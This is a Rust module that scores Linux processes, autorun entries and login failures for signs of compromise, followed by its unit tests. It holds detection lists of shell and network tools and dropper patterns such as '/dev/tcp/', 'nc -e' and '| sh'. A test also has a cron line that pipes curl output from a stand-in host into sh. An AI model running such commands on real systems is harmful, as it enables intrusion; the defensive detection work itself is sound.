//! The scoring rules of `quick_triage`, as pure functions over collected rows.
//!
//! A score is 0-100. Each red flag on an object (a process, an autorun file,
//! an address that failed to log in) has a weight; the object's score is its
//! strongest flag plus 10 for every further flag, capped at 100, so two
//! independent signals outrank either alone. Severity follows the score:
//! critical ≥ 80, high ≥ 60, medium ≥ 40, low ≥ 20, info below.

use schemars::JsonSchema;
use serde::Serialize;

use crate::live::net::Connection;
use crate::live::procs::ProcessRow;

/// One ranked finding with the evidence behind it.
#[derive(Debug, Clone, Serialize, JsonSchema, PartialEq)]
pub struct Item {
    /// 1 is the most urgent.
    pub rank: usize,
    /// 0-100.
    pub score: u8,
    /// critical, high, medium, low or info.
    pub severity: String,
    /// process, autorun, auth, ioc or session.
    pub category: String,
    pub title: String,
    /// Why: each red flag with the value that raised it.
    pub evidence: Vec<String>,
    /// The process concerned, for process items.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub pid: Option<i32>,
    /// The file concerned (executable, autorun file).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub path: Option<String>,
}

/// A red flag: its weight and the sentence that explains it.
#[derive(Debug, Clone, PartialEq)]
pub struct Flag {
    pub weight: u8,
    pub reason: String,
}

fn flag(weight: u8, reason: impl Into<String>) -> Flag {
    Flag {
        weight,
        reason: reason.into(),
    }
}

pub fn severity(score: u8) -> &'static str {
    match score {
        80.. => "critical",
        60..=79 => "high",
        40..=59 => "medium",
        20..=39 => "low",
        _ => "info",
    }
}

/// The strongest flag plus 10 per further flag, capped at 100.
pub fn combine(flags: &[Flag]) -> u8 {
    let Some(max) = flags.iter().map(|f| f.weight).max() else {
        return 0;
    };
    let extra = (flags.len() as u32 - 1) * 10;
    (max as u32 + extra).min(100) as u8
}

/// An item from flags (None when there are none), evidence strongest first.
pub fn item(category: &str, title: String, mut flags: Vec<Flag>) -> Option<Item> {
    if flags.is_empty() {
        return None;
    }
    let score = combine(&flags);
    flags.sort_by_key(|f| std::cmp::Reverse(f.weight));
    Some(Item {
        rank: 0,
        score,
        severity: severity(score).into(),
        category: category.into(),
        title,
        evidence: flags.into_iter().map(|f| f.reason).collect(),
        pid: None,
        path: None,
    })
}

/// Order by score (then category and title, so equal scores list stably) and number the ranks.
pub fn rank(items: &mut [Item]) {
    items.sort_by(|a, b| {
        b.score
            .cmp(&a.score)
            .then_with(|| a.category.cmp(&b.category))
            .then_with(|| a.title.cmp(&b.title))
    });
    for (i, item) in items.iter_mut().enumerate() {
        item.rank = i + 1;
    }
}

/// World-writable scratch locations binaries have no business running from.
const SCRATCH: &[&str] = &["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/"];

/// Daemons that serve untrusted input; a shell under one is how web shells
/// and exploited services look.
const SERVICES: &[&str] = &[
    "nginx",
    "apache2",
    "httpd",
    "lighttpd",
    "caddy",
    "php-fpm",
    "php-cgi",
    "mysqld",
    "mariadbd",
    "postgres",
    "redis-server",
    "mongod",
    "tomcat",
    "java",
    "named",
    "smbd",
    "vsftpd",
    "proftpd",
    "exim4",
    "postfix",
    "dovecot",
];

/// Shells and tools an attacker runs next.
const SPAWNED: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "csh", "tcsh", "fish", "busybox", "nc", "ncat", "netcat",
    "socat", "curl", "wget", "python", "python3", "perl", "ruby", "telnet",
];

fn base_name(name: &str) -> &str {
    name.rsplit('/').next().unwrap_or(name)
}

fn is_service(comm: &str) -> bool {
    // Prefixes: `php-fpm8.2`, `postgres: writer`, `tomcat9`.
    SERVICES.iter().any(|s| comm.starts_with(s))
}

fn is_spawned_tool(comm: &str) -> bool {
    SPAWNED.contains(&comm)
        || (comm.starts_with("python") && comm[6..].chars().all(|c| c.is_ascii_digit() || c == '.'))
}

fn is_loopback(address: &str) -> bool {
    address
        .parse::<std::net::IpAddr>()
        .map(|ip| ip.is_loopback())
        .unwrap_or(false)
}

/// The red flags of one process. `exists` tells whether a path is on disk
/// now (passed in so tests decide it).
pub fn process_flags(
    p: &ProcessRow,
    parent: Option<&ProcessRow>,
    listening: &[&Connection],
    exists: &dyn Fn(&str) -> bool,
) -> Vec<Flag> {
    let mut flags = Vec::new();
    if p.kernel_thread {
        return flags;
    }
    if let Some(exe) = &p.exe {
        if exe.starts_with("/memfd:runc_cloned") {
            // runc re-executes itself from a sealed memfd (CVE-2019-5736 hardening).
            flags.push(flag(
                20,
                format!("runs from a memory file, as runc does for itself: {exe}"),
            ));
        } else if exe.starts_with("/memfd:") {
            flags.push(flag(
                85,
                format!("runs from an anonymous memory file (fileless): {exe}"),
            ));
        } else if p.exe_deleted {
            if exists(exe) {
                flags.push(flag(
                    30,
                    format!(
                        "binary {exe} was replaced on disk after the process started (an upgrade, or a swapped file)"
                    ),
                ));
            } else {
                flags.push(flag(
                    65,
                    format!("binary deleted from disk while running: {exe}"),
                ));
            }
        }
        if let Some(dir) = SCRATCH.iter().find(|d| exe.starts_with(**d)) {
            let weight = if dir.contains("shm") { 70 } else { 65 };
            flags.push(flag(
                weight,
                format!(
                    "runs from the world-writable {}: {exe}",
                    dir.trim_end_matches('/')
                ),
            ));
        } else if exe.split('/').any(|c| c.starts_with('.') && c.len() > 1) {
            flags.push(flag(40, format!("runs from a hidden directory: {exe}")));
        }
    }
    if p.ppid != 2 && p.name.starts_with("kworker") && p.exe.is_some() {
        flags.push(flag(
            60,
            format!(
                "named like a kernel thread ({}) but is a user process with executable {}",
                p.name,
                p.exe.as_deref().unwrap_or("?")
            ),
        ));
    }
    if let Some(parent) = parent {
        let child = base_name(&p.name);
        let pname = base_name(&parent.name);
        if is_service(pname) && is_spawned_tool(child) {
            flags.push(flag(
                65,
                format!(
                    "unusual parent: {child} (pid {}) was started by the service {pname} (pid {})",
                    p.pid, parent.pid
                ),
            ));
        }
    }
    if let Some(cwd) = &p.cwd
        && SCRATCH.iter().any(|d| format!("{cwd}/").starts_with(*d))
        && flags.is_empty()
    {
        flags.push(flag(15, format!("working directory is {cwd}")));
    }
    let exposed: Vec<&&Connection> = listening
        .iter()
        .filter(|c| c.pid == Some(p.pid) || c.pids.contains(&p.pid))
        .collect();
    if !exposed.is_empty() {
        let addrs = exposed
            .iter()
            .map(|c| format!("{}/{}:{}", c.protocol, c.local_address, c.local_port))
            .collect::<Vec<_>>()
            .join(", ");
        let outside = exposed.iter().any(|c| !is_loopback(&c.local_address));
        if p.uid == Some(0) && outside {
            flags.push(flag(20, format!("listening as root on {addrs}")));
        } else if !flags.is_empty() {
            // A flagged process that also accepts connections is worse.
            flags.push(flag(20, format!("listening on {addrs}")));
        }
    }
    flags
}

/// A title naming the process.
pub fn process_title(p: &ProcessRow) -> String {
    format!(
        "process {} (pid {}{})",
        p.name,
        p.pid,
        p.user
            .as_deref()
            .map(|u| format!(", user {u}"))
            .unwrap_or_default()
    )
}

/// Patterns in an autorun entry that look like a dropper or a backdoor.
const AUTORUN_MARKERS: &[&str] = &[
    "/tmp/",
    "/dev/shm",
    "/var/tmp/",
    "curl ",
    "wget ",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "base64",
    "/dev/tcp/",
    "nc -e",
    "ncat ",
    "bash -i",
    "python -c",
    "python3 -c",
    "perl -e",
];

/// Flags of one autorun file: its category, whether it changed within the
/// window, and what its entries contain.
pub fn autorun_flags(
    category: &str,
    recent: bool,
    modified: &str,
    entries: &[String],
) -> Vec<Flag> {
    let mut flags = Vec::new();
    let base = match category {
        "ld_preload" => 75,
        "ssh_authorized_keys" => 55,
        "udev_rule" => 50,
        "cron" | "anacron" | "systemd_unit" | "systemd_timer" | "rc_local" => 45,
        "xdg_autostart" | "modules_load" => 40,
        _ => 35,
    };
    if category == "ld_preload" && !entries.is_empty() {
        flags.push(flag(
            75,
            format!(
                "/etc/ld.so.preload loads {} into every process",
                entries.join(", ")
            ),
        ));
    }
    if recent {
        flags.push(flag(
            if category == "ld_preload" { 75 } else { base },
            format!("{category} entry modified {modified}, within the window"),
        ));
    }
    for e in entries {
        if let Some(marker) = AUTORUN_MARKERS.iter().find(|m| e.contains(**m)) {
            flags.push(flag(50, format!("entry contains `{}`: {e}", marker.trim())));
            break;
        }
    }
    flags
}

/// Flags of one source of failed logins.
pub fn auth_flags(failures: u64, users: &[String], accepted_after: Option<&str>) -> Vec<Flag> {
    let mut flags = Vec::new();
    let weight = match failures {
        50.. => 60,
        10..=49 => 45,
        3..=9 => 30,
        _ => 15,
    };
    let who = if users.is_empty() {
        String::new()
    } else {
        format!(" for {}", users.join(", "))
    };
    flags.push(flag(
        weight,
        format!("{failures} failed authentication attempts{who}"),
    ));
    if users.len() >= 5 {
        flags.push(flag(
            45,
            format!("{} different user names tried", users.len()),
        ));
    }
    if let Some(login) = accepted_after
        && failures > 0
    {
        flags.push(flag(80, format!("then a successful login: {login}")));
    }
    flags
}

#[cfg(test)]
mod tests {
    use super::*;

    fn proc(pid: i32, ppid: i32, name: &str, exe: &str) -> ProcessRow {
        ProcessRow {
            pid,
            ppid,
            name: name.into(),
            exe: Some(exe.into()),
            exe_deleted: false,
            cmdline: Some(exe.into()),
            uid: Some(1000),
            user: Some("alice".into()),
            state: "S".into(),
            start_time: "2026-01-01T00:00:00Z".into(),
            cwd: Some("/home/alice".into()),
            threads: 1,
            rss_bytes: 0,
            kernel_thread: false,
            unreadable: Vec::new(),
        }
    }

    fn listen(pid: i32, addr: &str, port: u16) -> Connection {
        Connection {
            protocol: "tcp".into(),
            local_address: addr.into(),
            local_port: port,
            remote_address: "0.0.0.0".into(),
            remote_port: 0,
            state: "LISTEN".into(),
            pid: Some(pid),
            process_name: None,
            pids: vec![pid],
            uid: 0,
            user: None,
            inode: 1,
            owner_unreadable: None,
        }
    }

    fn nowhere(_: &str) -> bool {
        false
    }

    #[test]
    fn severities_follow_the_score() {
        assert_eq!(severity(100), "critical");
        assert_eq!(severity(80), "critical");
        assert_eq!(severity(79), "high");
        assert_eq!(severity(60), "high");
        assert_eq!(severity(45), "medium");
        assert_eq!(severity(20), "low");
        assert_eq!(severity(5), "info");
    }

    #[test]
    fn further_flags_add_ten_each_up_to_100() {
        assert_eq!(combine(&[]), 0);
        assert_eq!(combine(&[flag(65, "a")]), 65);
        assert_eq!(combine(&[flag(20, "a"), flag(65, "b")]), 75);
        assert_eq!(combine(&[flag(90, "a"), flag(90, "b"), flag(90, "c")]), 100);
    }

    #[test]
    fn a_normal_process_has_no_flags() {
        let p = proc(10, 1, "bash", "/usr/bin/bash");
        assert!(process_flags(&p, None, &[], &nowhere).is_empty());
        let mut k = proc(3, 2, "kworker/0:1", "");
        k.kernel_thread = true;
        k.exe = None;
        assert!(process_flags(&k, None, &[], &nowhere).is_empty());
    }

    #[test]
    fn deleted_binary_in_tmp_ranks_above_either_alone() {
        let mut both = proc(10, 1, "x", "/tmp/x");
        both.exe_deleted = true;
        let mut deleted = proc(11, 1, "y", "/usr/local/bin/y");
        deleted.exe_deleted = true;
        let tmp = proc(12, 1, "z", "/tmp/z");
        let s_both = combine(&process_flags(&both, None, &[], &nowhere));
        let s_deleted = combine(&process_flags(&deleted, None, &[], &nowhere));
        let s_tmp = combine(&process_flags(&tmp, None, &[], &nowhere));
        assert_eq!(s_deleted, 65);
        assert_eq!(s_tmp, 65);
        assert_eq!(s_both, 75);
        assert_eq!(severity(s_both), "high");
    }

    #[test]
    fn a_binary_replaced_by_an_upgrade_is_only_low() {
        let mut p = proc(10, 1, "sshd", "/usr/sbin/sshd");
        p.exe_deleted = true;
        let flags = process_flags(&p, None, &[], &|_| true);
        assert_eq!(combine(&flags), 30);
        assert!(flags[0].reason.contains("replaced"), "{flags:?}");
    }

    #[test]
    fn dev_shm_listener_is_high_with_the_socket_as_evidence() {
        let p = proc(10, 1, "payload", "/dev/shm/payload");
        let sock = listen(10, "0.0.0.0", 4444);
        let flags = process_flags(&p, None, &[&sock], &nowhere);
        assert_eq!(combine(&flags), 80);
        let item = item("process", process_title(&p), flags).unwrap();
        assert_eq!(item.severity, "critical");
        assert!(item.evidence[0].contains("/dev/shm"), "{:?}", item.evidence);
        assert!(
            item.evidence[1].contains("tcp/0.0.0.0:4444"),
            "{:?}",
            item.evidence
        );
    }

    #[test]
    fn root_listener_outside_loopback_is_low_and_loopback_is_nothing() {
        let mut p = proc(10, 1, "sshd", "/usr/sbin/sshd");
        p.uid = Some(0);
        let public = listen(10, "0.0.0.0", 22);
        let flags = process_flags(&p, None, &[&public], &nowhere);
        assert_eq!(combine(&flags), 20);
        assert!(flags[0].reason.contains("listening as root"));
        let local = listen(10, "127.0.0.1", 631);
        assert!(process_flags(&p, None, &[&local], &nowhere).is_empty());
        let other = listen(99, "0.0.0.0", 80);
        assert!(process_flags(&p, None, &[&other], &nowhere).is_empty());
    }

    #[test]
    fn shell_under_a_web_server_is_an_unusual_parent() {
        let parent = proc(100, 1, "nginx", "/usr/sbin/nginx");
        let child = proc(101, 100, "sh", "/usr/bin/dash");
        let flags = process_flags(&child, Some(&parent), &[], &nowhere);
        assert_eq!(combine(&flags), 65);
        assert!(flags[0].reason.contains("started by the service nginx"));
        let login = proc(102, 1, "sshd", "/usr/sbin/sshd");
        assert!(process_flags(&child, Some(&login), &[], &nowhere).is_empty());
        let py = proc(103, 100, "python3.11", "/usr/bin/python3.11");
        assert!(!process_flags(&py, Some(&parent), &[], &nowhere).is_empty());
    }

    #[test]
    fn fileless_and_fake_kernel_threads_are_flagged() {
        let mut m = proc(10, 1, "x", "/memfd:x");
        m.exe_deleted = true;
        assert!(combine(&process_flags(&m, None, &[], &nowhere)) >= 85);
        let mut runc = proc(12, 1, "runc:[2:INIT]", "/memfd:runc_cloned:/proc/self/exe");
        runc.exe_deleted = true;
        assert_eq!(combine(&process_flags(&runc, None, &[], &nowhere)), 20);
        let fake = proc(11, 1, "kworker/0:2", "/usr/local/bin/miner");
        assert_eq!(combine(&process_flags(&fake, None, &[], &nowhere)), 60);
    }

    #[test]
    fn autorun_scores() {
        assert!(
            autorun_flags(
                "cron",
                false,
                "2020-01-01",
                &["0 * * * * /usr/bin/true".into()]
            )
            .is_empty()
        );
        let recent = combine(&autorun_flags(
            "cron",
            true,
            "now",
            &["* * * * * /usr/bin/true".into()],
        ));
        assert_eq!(recent, 45);
        let dropper = combine(&autorun_flags(
            "cron",
            true,
            "now",
            &["* * * * * curl http://x/a | sh".into()],
        ));
        assert_eq!(dropper, 60);
        let preload = combine(&autorun_flags(
            "ld_preload",
            false,
            "old",
            &["/lib/x.so".into()],
        ));
        assert_eq!(preload, 75);
        assert_eq!(
            combine(&autorun_flags("ssh_authorized_keys", true, "now", &[])),
            55
        );
    }

    #[test]
    fn auth_scores_grow_with_attempts_and_a_success_after_them() {
        assert_eq!(combine(&auth_flags(1, &[], None)), 15);
        assert_eq!(combine(&auth_flags(12, &["root".into()], None)), 45);
        let users: Vec<String> = (0..6).map(|i| format!("u{i}")).collect();
        assert_eq!(combine(&auth_flags(60, &users, None)), 70);
        let breach = auth_flags(12, &["root".into()], Some("Accepted password for root"));
        assert_eq!(combine(&breach), 90);
    }

    #[test]
    fn ranking_orders_by_score_and_numbers_from_one() {
        let mut items: Vec<Item> = [(30, "b"), (90, "a"), (30, "a")]
            .iter()
            .map(|(w, t)| item("process", t.to_string(), vec![flag(*w, "x")]).unwrap())
            .collect();
        rank(&mut items);
        let order: Vec<(usize, u8, &str)> = items
            .iter()
            .map(|i| (i.rank, i.score, i.title.as_str()))
            .collect();
        assert_eq!(order, [(1, 90, "a"), (2, 30, "a"), (3, 30, "b")]);
    }
}
